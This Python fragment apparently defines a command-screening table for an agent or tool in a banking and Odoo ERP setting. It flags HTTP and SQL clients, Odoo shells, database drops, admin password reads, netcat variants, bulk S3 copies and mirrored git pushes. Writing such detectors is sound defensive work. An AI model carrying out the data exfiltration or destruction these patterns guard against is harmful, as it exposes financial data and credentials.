_BANK_FILE_WORDS = Screen(re.compile(r"\.(?:sta|mt9[45]0|940|942|bai2?|ofx|qfx|qif|aba|ach|nacha)\b|camt|pain\.?00|"
                                     r"mt9[45]0", re.I))
SCREENS: dict = {
    **{n: _sent_screen for n in ("curl", "wget", "http", "https", "xh", "xhs", "curlie")},
    **{n: _SQL_SCREEN for n in ("psql", "mysql", "mariadb", "sqlcmd")},
    # (hdbsql's SQL is read here alone: also the losses, grants and payee changes the other clients' readers see)
    "hdbsql": lambda text: _SQL_SCREEN(text) or _sql_hint(text) or _FINANCE_HINT.search(text) is not None,
    **{n: mentions("neutralize", "shell") for n in _ODOO_NAMES},
    # (_odoo_inside: Odoo's own shell or neutralize, run in a container)
    **{n: lambda text: ("odoo" in text or "openerp" in text) and ("shell" in text or "neutralize" in text)
       for n in _CONTAINER_TOOLS},
    "python": mentions("odoo-bin", "odoo.py", "openerp-server", "-m odoo"),
    "click-odoo-dropdb": mentions("click-odoo-dropdb"), "crudini": mentions("admin_passwd"),
    "touch": _BANK_FILE_WORDS,
    **{n: _DROP_WORDS.search for n in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd")},
    "aws": lambda text: text.count("s3://") >= 2,
    "git": lambda text: "push" in text and ("--all" in text or "--mirror" in text or "--tags" in text or
                                            "refs/" in text),
}
